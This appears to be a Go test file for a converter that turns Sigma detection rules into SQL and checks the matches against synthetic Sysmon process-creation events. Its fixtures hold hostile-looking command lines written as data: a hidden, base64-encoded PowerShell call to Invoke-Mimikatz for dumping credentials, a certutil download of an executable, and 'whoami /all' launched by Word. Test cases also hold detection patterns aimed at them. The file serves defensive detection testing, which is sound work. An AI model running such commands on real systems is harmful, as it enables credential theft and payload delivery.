package sigma

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/exechunt/exechunt/offline/sqlengine"
	"github.com/exechunt/exechunt/tables/eventtables"
	"github.com/exechunt/exechunt/tables/tablekit"
)

// testEvents are Sysmon 1 events (EventData) written as Winlogbeat JSON lines; the
// record id of event i is i+1.
var testEvents = []map[string]string{
	{ // 1
		"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "OriginalFileName": "PowerShell.EXE",
		"CommandLine": `powershell.exe -NoP -w hidden -enc ` + base64.StdEncoding.EncodeToString(utf16le("IEX (Invoke-Mimikatz -DumpCreds)")),
		"ParentImage": `C:\Windows\explorer.exe`, "ParentCommandLine": `C:\Windows\Explorer.EXE`, "User": `CORP\alice`,
		"IntegrityLevel": "Medium", "CurrentDirectory": `C:\Users\alice\`,
		"Hashes": "MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AAAA000000000000000000000000000000000000000000000000000000000000,IMPHASH=FEDCBA9876543210FEDCBA9876543210",
	},
	{ // 2: en dashes
		"Image": `C:\Windows\System32\certutil.exe`, "OriginalFileName": "CertUtil.exe",
		"CommandLine": "certutil.exe \u2013urlcache \u2013f http://10.0.0.5/a.exe a.exe", "ParentImage": `C:\Windows\System32\cmd.exe`,
		"User": `CORP\bob`, "IntegrityLevel": "High", "CurrentDirectory": `C:\Windows\Temp\`,
	},
	{ // 3: % and _ in the command line
		"Image": `C:\Windows\System32\rundll32.exe`, "OriginalFileName": "RUNDLL32.EXE",
		"CommandLine": `rundll32.exe C:\Users\bob\AppData\Local\Temp\my_lib%1.dll,Start`, "ParentImage": `C:\Windows\System32\cmd.exe`,
		"User": `CORP\bob`, "IntegrityLevel": "Medium", "CurrentDirectory": `C:\Windows\System32\`,
	},
	{ // 4: CMD in upper case
		"Image": `C:\Windows\System32\cmd.exe`, "OriginalFileName": "Cmd.Exe",
		"CommandLine": `CMD.EXE /C WHOAMI /ALL`, "ParentImage": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		"User": `CORP\alice`, "IntegrityLevel": "Medium", "CurrentDirectory": `C:\Users\alice\Documents\`,
	},
	{ // 5: parent's command line equals the child's
		"Image": `C:\Windows\System32\svchost.exe`, "OriginalFileName": "svchost.exe",
		"CommandLine": `C:\Windows\system32\svchost.exe -k netsvcs`, "ParentImage": `C:\Windows\System32\services.exe`,
		"ParentCommandLine": `C:\Windows\system32\svchost.exe -k netsvcs`,
		"User":              `NT AUTHORITY\SYSTEM`, "IntegrityLevel": "System", "CurrentDirectory": `C:\Windows\system32\`,
	},
}

func utf16le(s string) []byte { return utf16Bytes(s, false, false) }

// writeEvidence writes testEvents as JSON lines and returns the file.
func writeEvidence(t testing.TB) string {
	t.Helper()
	var b strings.Builder
	for i, ev := range testEvents {
		data := map[string]string{"ProcessGuid": fmt.Sprintf("{00000000-0000-0000-0000-%012d}", i+1), "ProcessId": fmt.Sprint(100 + i)}
		for k, v := range ev {
			data[k] = v
		}
		line, _ := json.Marshal(map[string]any{
			"@timestamp": fmt.Sprintf("2024-03-01T10:00:%02dZ", i),
			"winlog": map[string]any{"channel": "Microsoft-Windows-Sysmon/Operational", "computer_name": "WS1", "event_id": 1,
				"provider_name": "Microsoft-Windows-Sysmon", "record_id": i + 1, "event_data": data},
		})
		b.Write(line)
		b.WriteByte('\n')
	}
	f := filepath.Join(t.TempDir(), "events.jsonl")
	if err := os.WriteFile(f, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	return f
}

// eventTables are the tables the converted rules read, over the evidence in paths, as
// the offline engine builds them (package offline serves sigma_matches, which links
// this package, so its tests cannot import it).
func eventTables(paths []string, log *slog.Logger) []tablekit.Table {
	if paths == nil {
		paths = []string{} // nil would mean the host's live logs
	}
	ev := eventtables.New(eventtables.Options{Paths: paths, Logger: log})
	return []tablekit.Table{ev.ProcessCreationTable(), ev.ScriptBlockTable()}
}

func openEngine(t testing.TB, paths ...string) *sqlengine.Engine {
	t.Helper()
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	e, err := sqlengine.Open(eventTables(paths, log), sqlengine.Options{Logger: log})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	return e
}

// recordIDs runs q and returns the event_record_id of its rows.
func recordIDs(t *testing.T, e *sqlengine.Engine, q *Query) []int {
	t.Helper()
	sql := strings.Replace(q.SQL, "SELECT ", "SELECT event_record_id, ", 1)
	rows, err := e.Query(context.Background(), sql)
	if err != nil {
		t.Fatalf("%v\n%s", err, q.SQL)
	}
	defer rows.Close()
	var ids []int
	for rows.Next() {
		ids = append(ids, int(rows.Values()[0].(int64)))
	}
	if err := rows.Err(); err != nil {
		t.Fatalf("%v\n%s", err, q.SQL)
	}
	sort.Ints(ids)
	return ids
}

func rule(detection string) string {
	return `title: test rule
id: 00000000-1111-2222-3333-444444444444
status: test
level: high
tags: [attack.execution, attack.t1059.001, attack.t1218]
falsepositives: [Admin scripts]
logsource: {category: process_creation, product: windows}
detection:
` + detection
}

func TestConvertMatches(t *testing.T) {
	e := openEngine(t, writeEvidence(t))
	cases := []struct {
		name, detection string
		want            []int
	}{
		{"equals is case-insensitive", "  sel: {OriginalFileName: 'powershell.exe'}\n  condition: sel", []int{1}},
		{"contains", "  sel: {CommandLine|contains: 'whoami'}\n  condition: sel", []int{4}},
		{"startswith", "  sel: {CommandLine|startswith: 'cmd.exe /c'}\n  condition: sel", []int{4}},
		{"endswith list", "  sel: {Image|endswith: ['\\cmd.exe', '\\rundll32.exe']}\n  condition: sel", []int{3, 4}},
		{"wildcards", "  sel: {Image: 'C:\\Windows\\System32\\c?d.*'}\n  condition: sel", []int{4}},
		{"percent and underscore are literal", "  sel: {CommandLine|contains: 'my_lib%1'}\n  condition: sel", []int{3}},
		{"underscore does not match any character", "  sel: {CommandLine|contains: 'my_lib_1'}\n  condition: sel", nil},
		{"escaped wildcard", "  sel: {CommandLine|contains: 'my_lib\\*'}\n  condition: sel", nil},
		{"all", "  sel: {CommandLine|contains|all: ['/c', 'whoami', '/all']}\n  condition: sel", []int{4}},
		{"all fails", "  sel: {CommandLine|contains|all: ['/c', 'whoami', '/priv']}\n  condition: sel", nil},
		{"windash en dash", "  sel: {CommandLine|contains|windash: ' -urlcache '}\n  condition: sel", []int{2}},
		{"without windash", "  sel: {CommandLine|contains: ' -urlcache '}\n  condition: sel", nil},
		{"windash slash", "  sel: {CommandLine|contains|windash: ' -c whoami'}\n  condition: sel", []int{4}},
		{"wide base64offset", "  sel: {CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'}\n  condition: sel", []int{1}},
		{"base64offset of text that is not there", "  sel: {CommandLine|wide|base64offset|contains: 'Invoke-Expression'}\n  condition: sel", nil},
		{"re is case-sensitive", "  sel: {CommandLine|re: 'cmd\\.exe /c'}\n  condition: sel", nil},
		{"re", "  sel: {CommandLine|re: 'CMD\\.EXE\\s+/C\\s+\\w+'}\n  condition: sel", []int{4}},
		{"re|i", "  sel: {CommandLine|re|i: 'cmd\\.exe\\s+/c'}\n  condition: sel", []int{4}},
		{"re (?i)", "  sel: {CommandLine|re: '(?i)CERTUTIL.*urlcache'}\n  condition: sel", []int{2}},
		{"re mixed case", "  sel: {CommandLine|re: '(?i:cmd)\\.EXE /C'}\n  condition: sel", []int{4}},
		{"cased", "  sel: {CommandLine|contains|cased: 'WHOAMI'}\n  condition: sel", []int{4}},
		{"cased miss", "  sel: {CommandLine|contains|cased: 'whoami'}\n  condition: sel", nil},
		{"exists", "  sel: {ParentCommandLine|exists: true}\n  condition: sel", []int{1, 5}},
		{"exists false", "  sel: {ParentCommandLine|exists: false}\n  condition: sel", []int{2, 3, 4}},
		{"null", "  sel: {ParentCommandLine: null}\n  condition: sel", []int{2, 3, 4}},
		{"fieldref", "  sel: {CommandLine|fieldref: ParentCommandLine}\n  condition: sel", []int{5}},
		{"hashes", "  sel: {Hashes|contains: ['IMPHASH=fedcba9876543210FEDCBA9876543210', 'SHA1=0000']}\n  condition: sel", []int{1}},
		{"hashes md5", "  sel: {md5: '0123456789abcdef0123456789abcdef'}\n  condition: sel", []int{1}},
		{"int", "  sel: {ProcessId: 102}\n  condition: sel", []int{3}},
		{"gt", "  sel: {ProcessId|gt: 102}\n  condition: sel", []int{4, 5}},
		{"not", "  sel: {IntegrityLevel: Medium}\n  filter: {ParentImage|endswith: '\\explorer.exe'}\n  condition: sel and not filter", []int{3, 4}},
		{"not over a missing value", "  sel: {Image|endswith: '.exe'}\n  filter: {ParentCommandLine|contains: 'netsvcs'}\n  condition: sel and not filter", []int{1, 2, 3, 4}},
		{"1 of", "  sel_a: {Image|endswith: '\\cmd.exe'}\n  sel_b: {Image|endswith: '\\certutil.exe'}\n  other: {Image|endswith: '\\svchost.exe'}\n  condition: 1 of sel_*", []int{2, 4}},
		{"all of", "  sel_a: {User|contains: bob}\n  sel_b: {IntegrityLevel: High}\n  condition: all of sel_*", []int{2}},
		{"1 of them", "  a: {Image|endswith: '\\cmd.exe'}\n  b: {Image|endswith: '\\svchost.exe'}\n  _c: {Image|endswith: '.exe'}\n  condition: 1 of them", []int{4, 5}},
		{"all of them", "  a: {User|contains: alice}\n  b: {IntegrityLevel: medium}\n  condition: all of them", []int{1, 4}},
		{"parentheses", "  a: {User|contains: alice}\n  b: {Image|endswith: '\\cmd.exe'}\n  c: {Image|endswith: '\\rundll32.exe'}\n  condition: a and (b or c)", []int{4}},
		{"precedence", "  a: {User|contains: alice}\n  b: {Image|endswith: '\\cmd.exe'}\n  c: {Image|endswith: '\\rundll32.exe'}\n  condition: c or a and b", []int{3, 4}},
		{"list of maps", "  sel:\n    - {Image|endswith: '\\cmd.exe', User|contains: bob}\n    - {Image|endswith: '\\certutil.exe'}\n  condition: sel", []int{2}},
		{"several conditions", "  a: {Image|endswith: '\\cmd.exe'}\n  b: {Image|endswith: '\\svchost.exe'}\n  condition: [a, b]", []int{4, 5}},
		{"empty value", "  sel: {ParentCommandLine: ''}\n  condition: sel", []int{2, 3, 4}},
		{"4688 names", "  sel: {NewProcessName|endswith: '\\cmd.exe', ParentProcessName|endswith: '\\winword.exe'}\n  condition: sel", []int{4}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := ParseRule("test.yml", []byte(rule(c.detection)))
			if err != nil {
				t.Fatal(err)
			}
			q, err := Convert(r)
			if err != nil {
				t.Fatal(err)
			}
			if got := recordIDs(t, e, q); !reflect.DeepEqual(got, c.want) {
				t.Errorf("matches %v, want %v\n%s", got, c.want, q.SQL)
			}
		})
	}
}

func TestConvertUnsupported(t *testing.T) {
	cases := []struct{ name, rule, reason string }{
		{"keywords", rule("  keywords: ['mimikatz']\n  condition: keywords"), "keyword search"},
		{"aggregation", rule("  sel: {Image|endswith: '.exe'}\n  condition: sel | count() by User > 5"), "aggregation"},
		{"missing field", rule("  sel: {SubjectUserName: 'bob'}\n  condition: sel"), "subject user name"},
		{"unknown field", rule("  sel: {Foo: bar}\n  condition: sel"), "no such column"},
		{"unknown modifier", rule("  sel: {Image|foo: bar}\n  condition: sel"), `modifier "foo"`},
		{"expand", rule("  sel: {Image|expand: '%Admins%'}\n  condition: sel"), "expand"},
		{"bad regex", rule("  sel: {CommandLine|re: '(?<=x)a'}\n  condition: sel"), "RE2 cannot compile"},
		{"backreference", rule("  sel: {CommandLine|re: '(a)\\1'}\n  condition: sel"), "RE2 cannot compile"},
		{"wide alone", rule("  sel: {CommandLine|wide|contains: 'abc'}\n  condition: sel"), "without base64"},
		{"unknown hash only", rule("  sel: {Hashes|contains: 'SHA384=abcd'}\n  condition: sel"), "hash algorithms"},
		{"ipv6 cidr", strings.Replace(rule("  sel: {Computer|cidr: '::1/128'}\n  condition: sel"), "", "", 1), "IPv6"},
		{"other logsource", strings.Replace(rule("  sel: {Image: x}\n  condition: sel"), "process_creation", "network_connection", 1), "logsource"},
		{"timeframe", rule("  sel: {Image: x}\n  timeframe: 5m\n  condition: sel"), "timeframe"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := ParseRule("test.yml", []byte(c.rule))
			if err != nil {
				t.Fatal(err)
			}
			q, err := Convert(r)
			if err == nil {
				t.Fatalf("converted:\n%s", q.SQL)
			}
			if !IsUnsupported(err) || !strings.Contains(err.Error(), c.reason) {
				t.Errorf("error %q (unsupported %v), want one about %q", err, IsUnsupported(err), c.reason)
			}
		})
	}
}

func TestConvertMetadata(t *testing.T) {
	r, err := ParseRule("rules/proc_creation_win_test.yml", []byte(rule("  sel: {Image: x}\n  condition: sel")))
	if err != nil {
		t.Fatal(err)
	}
	q, err := Convert(r)
	if err != nil {
		t.Fatal(err)
	}
	if q.Name != "proc_creation_win_test" || q.Technique != "T1059.001" || q.Severity != "high" || q.Pack != "sigma-process-creation-windows" {
		t.Errorf("got name %q technique %q severity %q pack %q", q.Name, q.Technique, q.Severity, q.Pack)
	}
	for _, want := range []string{"test rule.", "False positives: Admin scripts.", "ATT&CK: T1059.001, T1218.", "Sigma rule 00000000-1111-2222-3333-444444444444 (status test, level high, proc_creation_win_test.yml)."} {
		if !strings.Contains(q.Description, want) {
			t.Errorf("description %q lacks %q", q.Description, want)
		}
	}
}

func TestBase64Offsets(t *testing.T) {
	// The three forms pySigma gives for "/c" style values (Sigma spec examples).
	got := base64Offsets([]byte("Hello World"))
	want := []string{"SGVsbG8gV29ybG", "hlbGxvIFdvcmxk", "IZWxsbyBXb3JsZ"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("base64Offsets = %q, want %q", got, want)
	}
}

func TestWindash(t *testing.T) {
	got, err := windash(parseSigmaString(" -f /x a-b"))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 25 {
		t.Fatalf("%d variants, want 25", len(got))
	}
	if got[0].plain() != " -f -x a-b" || got[24].plain() != " \u2015f \u2015x a-b" {
		t.Errorf("variants %q … %q", got[0].plain(), got[24].plain())
	}
}

func TestPortableRegex(t *testing.T) {
	cases := []struct {
		in    string
		fold  bool
		out   string
		lower bool
	}{
		{`(?i)\\Temp\\.{1,3}\.exe`, false, `\\temp\\.{1,3}\.exe`, true},
		{`cmd\.exe\s+/c`, false, `cmd\.exe[\x09\x0a\x0c\x0d ]+/c`, false},
		{`\d{2}[^"]`, false, `[0-9]{2}[^"]`, true},
		{`(?i)A(?-i)B`, false, `[aA]B`, false},
		{`abc|abd`, true, `ab[cd]`, true},
		{`^(?P<x>a+)$`, false, `^(a+)$`, false},
	}
	for _, c := range cases {
		out, lower, err := portableRegex(c.in, c.fold, false, false)
		if err != nil || out != c.out || lower != c.lower {
			t.Errorf("portableRegex(%q) = %q, %v, %v; want %q, %v", c.in, out, lower, err, c.out, c.lower)
		}
	}
}
